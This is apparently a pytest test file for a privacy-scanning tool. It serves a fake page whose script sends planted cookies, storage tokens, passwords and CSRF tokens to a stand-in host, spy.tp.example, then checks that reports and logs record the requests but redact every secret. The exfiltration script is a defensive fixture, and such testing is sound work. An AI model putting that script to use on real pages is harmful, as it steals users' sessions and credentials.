"""What lets somebody in stands in nothing that the gate writes, in no usual spelling; that it was sent does."""

import base64
import json
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from urllib.parse import quote

import pytest

from pytest_pixelguard.redact import redacted
from pytest_pixelguard.trackers.secrets import HIDDEN, hide_tokens
from tests.conftest import run_here
from tests.report.samples import REPORT

PREVIEW = "deploy:Preview-Pass-7731"
PLANTED = {
    "password of the preview": "Preview-Pass-7731",
    "header of the preview": "Edge-Key-5d41402abc4b",
    "session cookie": "Sess9f8e7d6c5b4a",
    "token in the address": "Acc3ss-2b7e151628ae",
    "token of storage": "eyJhbGciOiJIUzI1.eyJzdWIiOiI5OTk.c2lnbmF0dXJl",
    "session in the path": "C0FFEE5E551ON1D",
    "typed password": "Horse-Staple-4242",
    "CSRF token": "Csrf-77aa88bb99cc",
}
PAGE = f"""<!doctype html><html lang=en><title>Results</title><h1>Results</h1><script>
document.cookie = 'sessionid={PLANTED["session cookie"]}';
localStorage.setItem('auth', '{PLANTED["token of storage"]}');
const here = location.href + '?access_token={PLANTED["token in the address"]}#id_token=x';
const to = 'https://spy.tp.example/c?dl=' + encodeURIComponent(here) + '&c=' + encodeURIComponent(document.cookie);
const post = (body, headers) => fetch('https://spy.tp.example/p;jsessionid={PLANTED["session in the path"]}', {{
  method: 'POST', mode: 'no-cors', body, headers }});
new Image().src = to;
post(JSON.stringify({{password: '{PLANTED["typed password"]}', csrf_token: '{PLANTED["CSRF token"]}'}}));
post('authenticity_token={PLANTED["CSRF token"]}&kept=yes&password={PLANTED["typed password"]}');
fetch('https://spy.tp.example/h', {{headers: {{Authorization: 'Bearer ' + localStorage.auth}}}}).catch(() => 0);
post(atob('{base64.b64encode(b"echo=" + PLANTED["header of the preview"].encode()).decode()}'));
post('b=' + btoa('x{PLANTED["password of the preview"]}y'));
</script>"""


class _Preview(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        """Answer whoever knows the password and the header; echo neither."""
        wanted = "Basic " + base64.b64encode(PREVIEW.encode()).decode()
        let_in = self.headers["authorization"] == wanted
        self.send_response(200 if let_in else 401)
        self.send_header("content-type", "text/html")
        self.send_header("set-cookie", f"sid_http={PLANTED['session cookie']}; HttpOnly")
        self.end_headers()
        self.wfile.write(PAGE.encode() if let_in else b"")

    def log_message(self, *_: object) -> None:
        """Print nothing."""


@contextmanager
def _preview() -> Iterator[int]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Preview)
    Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_port
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.browser
def test_no_planted_secret_stands_in_anything_that_is_written(tmp_path: Path) -> None:
    """Cookies, tokens, sessions, passwords and the preview's own log-in stand in no report, log, recording or picture.

    That the requests were sent does: it is what the report is for.
    """
    (tmp_path / "pixelguard.toml").write_text(
        'states = ["no-choice"]\nevidence_dir = "out/evidence"\n[routes]\npaths = ["/"]\n', encoding="utf-8"
    )
    with _preview() as port:
        ran = run_here(
            "crawl", f"http://127.0.0.1:{port}", "-v", "--report-dir", "out", cwd=tmp_path, GITHUB_ACTIONS="true",
            PIXELGUARD_PREVIEW_USER=PREVIEW, PIXELGUARD_PREVIEW_HEADERS=f"X-Edge: {PLANTED['header of the preview']}",
        )  # fmt: skip
    merged = run_here("merge", "out/pixelguard.json", "--report-dir", "merged", "-v", cwd=tmp_path)

    written = {file: file.read_bytes() for file in tmp_path.rglob("*") if file.is_file()}
    everything = b"\n".join([*written.values(), ran.out.encode(), ran.err.encode(), merged.out.encode()])
    report = json.loads(written[tmp_path / "out/pixelguard.json"])
    assert ran.code == 1, ran.err
    assert {row["url"].split("?")[0] for row in report["requests"] if "tp.example" in row["host"]} == {
        "https://spy.tp.example/c", "https://spy.tp.example/h", f"https://spy.tp.example/p;jsessionid={HIDDEN}",
    }  # fmt: skip
    assert any(file.suffix == ".har" for file in written)
    assert any(file.suffix == ".png" for file in written)
    assert "kept=yes" in everything.decode("utf-8", "replace")
    assert {
        (what, spelling)
        for what, secret in PLANTED.items()
        for spelling, form in _spellings(secret).items()
        if form in everything
    } == set()


def _spellings(secret: str) -> dict[str, bytes]:
    middle = {f"base64, {n} before": base64.b64encode(b"x" * n + secret.encode() + b"yyy")[4:-8] for n in range(3)}
    return {"plain": secret.encode(), "encoded": quote(quote(secret)).encode(), **middle}


@pytest.mark.parametrize(
    ("text", "cleaned"),
    [
        ("https://a.example/?access_token=abc&x=1", f"https://a.example/?access_token={HIDDEN}&x=1"),
        ("?dl=https%3A%2F%2Fa%2F%3Fsession%3Dabc%26y%3D1", f"?dl=https%3A%2F%2Fa%2F%3Fsession%3D{HIDDEN}%26y%3D1"),
        ("a=1; sessionid=abc; b=2", f"a=1; sessionid={HIDDEN}; b=2"),
        ('{"password":"a b","x":1}', f'{{"password":"{HIDDEN}","x":1}}'),
        ('"{\\"id_token\\":\\"abc\\"}"', f'"{{\\"id_token\\":\\"{HIDDEN}\\"}}"'),
        ("%7B%22password%22%3A%22abc%22%7D", f"%7B%22password%22%3A%22{HIDDEN}%22%7D"),
        ("Authorization: Bearer abcDEF123456", f"Authorization: Bearer {HIDDEN}"),
        ("/book;jsessionid=8812AB?x=1", f"/book;jsessionid={HIDDEN}?x=1"),
        ("a basic understanding; postcode=ZZ99 3VZ", "a basic understanding; postcode=ZZ99 3VZ"),
        ("https://www.facebook.com/tr?id=123456789012345&ev=PageView", None),
        ("https://region1.google-analytics.com/g/collect?tid=G-ABCDEF1234&sid=1732240000", None),
    ],
)
def test_a_token_is_told_by_its_name_or_its_form(text: str, cleaned: str | None) -> None:
    """Tokens are hidden wherever they are handed on; what names a tracker's account stays."""
    assert hide_tokens(text) == (text if cleaned is None else cleaned)


def test_a_report_without_secrets_is_as_it_was() -> None:
    """Nothing of a report is touched that holds no token."""
    assert redacted(REPORT) == REPORT
